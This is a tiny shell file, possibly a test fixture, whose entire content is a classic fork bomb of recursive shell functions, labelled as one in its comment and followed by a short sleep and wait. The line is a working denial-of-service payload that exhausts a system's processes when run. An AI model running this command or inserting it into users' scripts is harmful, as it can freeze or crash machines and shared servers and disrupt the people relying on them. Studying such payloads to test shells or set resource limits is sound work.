# A fork bomb of shell functions.
:() { : | : & }; :; sleep 0.3; wait
